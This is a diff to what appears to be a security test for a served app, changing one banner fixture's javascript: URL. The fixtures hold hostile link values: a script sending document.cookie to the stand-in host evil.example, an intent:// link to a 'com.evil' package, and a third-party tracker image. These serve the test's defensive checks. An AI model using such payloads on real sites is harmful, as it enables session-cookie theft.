@@ -61,7 +61,7 @@ test.describe('security of the served app', () => {
       sort: id,
     });
     const list = [
-      banner(1, '恶意脚本', 'javascript:fetch(`//evil.example/?c=${document.cookie}`)', 2),
+      banner(1, '恶意脚本', 'javascript:fetch("//evil.example/?c="+document.cookie)', 2),
       banner(2, '恶意意图', 'intent://pay#Intent;package=com.evil;end', 1),
       { ...banner(3, '外站图片', 'kanqiu://model', 1), image_url: 'https://tracker.example/p.gif' },
       banner(4, '模型推荐', 'kanqiu://model', 1),
